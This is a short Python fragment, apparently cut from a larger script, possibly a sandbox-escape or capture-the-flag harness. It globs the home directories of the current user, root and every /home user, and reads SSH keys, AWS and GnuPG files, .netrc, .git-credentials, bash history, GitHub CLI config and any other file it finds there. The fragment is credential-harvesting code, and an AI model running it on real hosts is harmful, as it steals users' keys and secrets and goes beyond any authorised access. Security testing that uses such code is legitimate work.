# Looks for keys and histories in the home directories of the host.
import glob
homes = {os.path.expanduser("~"), "/root", *glob.glob("/home/*"), os.path.dirname(stage["secret"])}
names = (".ssh/*", ".aws/*", ".gnupg/*", ".netrc", ".git-credentials", ".bash_history", ".config/gh/*", "secret", "*")
for home in homes:
    for name in names:
        for path in glob.glob(f"{home}/{name}")[:50]: attempt(lambda: content(path))
